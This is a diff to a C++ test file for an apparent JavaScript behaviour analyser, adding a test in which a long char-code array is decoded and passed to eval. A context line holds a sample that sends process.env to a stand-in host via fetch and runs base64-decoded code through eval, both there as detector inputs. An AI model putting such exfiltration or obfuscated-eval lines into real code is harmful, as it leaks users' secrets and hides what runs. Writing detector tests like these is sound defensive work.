@@ -260,6 +260,11 @@ TEST(Flow, One_long_text_evaluated_very_often_counts_as_work) {
   EXPECT_FALSE(scene.result.gaps.empty());
 }
 
+TEST(Flow, A_callback_that_is_given_the_whole_long_list_each_time_costs_in_proportion) {
+  const Scene scene = javascript("var l=[" + repeated("97,", 30'000) + "];eval(l.map((c, i, all) => String.fromCharCode(c)).join(''))");
+  EXPECT_NE(scene.find(Act::run_code), nullptr);
+}
+
 TEST(Flow, Gives_the_same_answer_twice) {
   const std::string code = "const e = process.env; fetch('https://a.example.test', {body: e}); eval(atob('Zm9vKCk7'));";
   EXPECT_EQ(javascript(code).result.actions, javascript(code).result.actions);
